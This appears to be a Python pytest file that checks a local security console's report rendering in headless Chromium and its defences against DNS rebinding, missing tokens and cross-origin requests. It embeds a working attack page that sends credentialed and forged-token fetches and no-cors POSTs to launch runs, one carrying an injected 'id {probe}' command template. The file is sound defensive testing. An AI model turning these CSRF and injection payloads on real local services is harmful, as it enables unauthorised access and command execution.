"""In a real browser (Debian's headless Chromium): the report and the console show the axis band
first, and the console holds when a page from another origin attacks it."""

from __future__ import annotations

import json
import queue
import re
import shutil
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from tests.agentsec import browser
from tests.agentsec import console as ui
from tests.agentsec.png import Image, read_png
from tests.agentsec.reports import agentsec, leaky, report, save_all


@pytest.fixture(autouse=True, scope="module")
def _chromium() -> None:
    assert shutil.which("chromium"), "chromium is installed by scripts/setup-measure.sh"

# The band's cell backgrounds, as the template sets them (light scheme, sRGB).
STATE_BACKGROUNDS = {
    (0xDA, 0xFB, 0xE1): "sealed",
    (0xFF, 0xEB, 0xE9): "reachable",
    (0xFF, 0xF8, 0xC5): "refused",
    (0xFB, 0xEF, 0xFF): "not_measured",
}


def _mixed_report() -> dict:
    out = leaky()
    out["sections"]["network"] = {"ok": False, "error": "RuntimeError: boom", "timed_out": False}
    return report(out, "mixed-states")


def band_in(image: Image) -> tuple[int, list[str]]:
    """The first band of state-coloured cells from the top: its row, and its cells' states
    from left to right."""
    for y in range(image.height):
        hits = sum(1 for x in range(0, image.width, 4) if image.pixel(x, y) in STATE_BACKGROUNDS)
        if hits >= 20:
            break
    else:
        raise AssertionError("no axis band in the screenshot")
    row = y + 4  # inside the cells' padding, above their text
    states, current, run = [], None, 0
    for x in range(image.width):
        state = STATE_BACKGROUNDS.get(image.pixel(x, row))
        if state == current:
            run += 1
            continue
        if current is not None and run >= 40:
            states.append(current)
        current, run = state, 1
    if current is not None and run >= 40:
        states.append(current)
    return y, states


def _expected(r: dict) -> list[str]:
    return [axis["state"] for axis in r["summary"]["axes"].values()]


def test_report_screenshot_shows_the_axis_band_first(tmp_path: Path):
    r = _mixed_report()
    save_all(tmp_path / "r", [r])
    page = tmp_path / "report.html"
    assert agentsec("report", str(tmp_path / "r"), "--out", str(page)).returncode == 0
    image = read_png(browser.screenshot(page.as_uri(), tmp_path / "shot.png"))
    top, states = band_in(image)
    assert states == _expected(r)
    assert {"sealed", "reachable", "not_measured"} <= set(states)
    assert top < 260  # the band is the first thing under the title, above the score


def test_the_band_check_fails_on_a_page_without_a_band(tmp_path: Path):
    page = tmp_path / "plain.html"
    page.write_text("<!doctype html><p>no band here</p>")
    image = read_png(browser.screenshot(page.as_uri(), tmp_path / "shot.png"))
    with pytest.raises(AssertionError, match="no axis band"):
        band_in(image)


def test_report_dom_in_the_browser_has_axes_before_score_and_loads_nothing(tmp_path: Path):
    r = _mixed_report()
    save_all(tmp_path / "r", [r])
    page = tmp_path / "report.html"
    agentsec("report", str(tmp_path / "r"), "--out", str(page))
    text = browser.dom(page.as_uri())
    assert text.index('class="axes"') < text.index("/ 100") < text.index("Provenance")


@pytest.fixture
def results(tmp_path: Path) -> Path:
    save_all(tmp_path / "reports", [_mixed_report()])
    return tmp_path / "reports"


def test_console_screenshot_shows_the_same_band(results: Path, tmp_path: Path):
    with ui.running(results) as console:
        shot = browser.screenshot(console.url, tmp_path / "console.png")
    top, states = band_in(read_png(shot))
    assert states == _expected(_mixed_report()) and top < 260


def test_a_rebound_name_gets_nothing_even_with_the_token(results: Path):
    # DNS rebinding: a name the attacker controls now resolves to 127.0.0.1.
    with ui.running(results) as console:
        url = f"http://rebind.test:{console.port}/?token={console.token}"
        text = browser.dom(url, names=["rebind.test"])
        api = browser.dom(f"http://rebind.test:{console.port}/api/runs", names=["rebind.test"])
    assert "does not answer to that Host" in text and "mixed-states" not in text
    assert "does not answer to that Host" in api


def test_without_the_token_the_browser_gets_nothing(results: Path):
    with ui.running(results) as console:
        page = browser.dom(f"http://127.0.0.1:{console.port}/")
        api = browser.dom(f"http://127.0.0.1:{console.port}/api/runs")
    assert "carries this session" in page and "mixed-states" not in page
    assert "needs the X-Agentsec-Token header" in api and "mixed-states" not in api


ATTACK = """<!doctype html><meta charset=utf-8><title>attacker</title><body><script>
const C = "CONSOLE";
const out = {};
async function attempt(name, call) {
  try {
    const r = await call();
    let body = "";
    try { body = await r.text(); } catch (e) { body = "unreadable"; }
    out[name] = {outcome: "answered", type: r.type, status: r.status, body: body.slice(0, 200)};
  } catch (e) { out[name] = {outcome: "blocked", error: e.name}; }
}
(async () => {
  // The victim's own console tab, in this same browser (the test opens it as the user would),
  // gets its session cookie first.
  window.open("VICTIM", "_blank");
  await new Promise((done) => setTimeout(done, 2000));
  await attempt("page", () => fetch(C + "/", {credentials: "include"}));
  await attempt("runs", () => fetch(C + "/api/runs", {credentials: "include"}));
  await attempt("runs_guess", () => fetch(C + "/api/runs", {headers: {"X-Agentsec-Token": "x"}}));
  await attempt("run_json", () => fetch(C + "/api/runs", {method: "POST",
      headers: {"Content-Type": "application/json", "X-Agentsec-Token": "x"},
      body: JSON.stringify({preset: "bwrap-hardened"})}));
  await attempt("run_simple", () => fetch(C + "/api/runs", {method: "POST", mode: "no-cors",
      credentials: "include", headers: {"Content-Type": "application/x-www-form-urlencoded"},
      body: "preset=bwrap-hardened"}));
  await attempt("run_template", () => fetch(C + "/api/runs", {method: "POST", mode: "no-cors",
      credentials: "include", headers: {"Content-Type": "text/plain"},
      body: '{"template": "id {probe}"}'}));
  await fetch("/report", {method: "POST", body: JSON.stringify(out)});
})();
</script>"""


class _Attacker(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        body = self.server.page.encode()  # type: ignore[attr-defined]
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self) -> None:
        data = self.rfile.read(int(self.headers["Content-Length"]))
        self.server.reports.put(json.loads(data))  # type: ignore[attr-defined]
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args) -> None:
        pass


@pytest.mark.parametrize("origin", ["attacker.test", "127.0.0.1"])
def test_a_page_from_another_origin_can_neither_read_nor_run(results: Path, origin: str):
    """attacker.test is another site; 127.0.0.1 on another port is another origin of the same
    site, so the session cookie (SameSite=Strict) does go along: the token still stops it."""
    before = sorted(p.name for p in results.iterdir())
    console = ui.start(results)
    attacker = ThreadingHTTPServer(("127.0.0.1", 0), _Attacker)
    attacker.page = ATTACK.replace("CONSOLE", f"http://127.0.0.1:{console.port}").replace(
        "VICTIM", console.url)
    attacker.reports = queue.Queue()
    threading.Thread(target=attacker.serve_forever, daemon=True).start()
    try:
        url = f"http://{origin}:{attacker.server_address[1]}/"
        with browser.open_page([url], names=["attacker.test"]):
            outcome = attacker.reports.get(timeout=60)
    finally:
        attacker.shutdown()
        attacker.server_close()
        log = ui.stop(console.proc)
    for name in ("page", "runs", "runs_guess", "run_json"):
        assert outcome[name]["outcome"] == "blocked", (name, outcome[name])  # CORS: unreadable
    for name in ("run_simple", "run_template"):
        # A "simple" request leaves without a preflight; its answer is unreadable (opaque, or
        # blocked by Cross-Origin-Resource-Policy) and the console refused it.
        assert outcome[name]["outcome"] == "blocked" or outcome[name]["type"] == "opaque"
    posts = re.findall(r"POST /api/runs (\d+)", log)
    assert len(posts) == 2 and all(code in ("403", "415") for code in posts), log  # refused
    assert "OPTIONS /api/runs 405" in log  # the preflights of the others failed: never sent
    if origin == "127.0.0.1":
        assert "GET / 200" in log  # the victim's session was live in this browser all along
    assert sorted(p.name for p in results.iterdir()) == before  # nothing ran
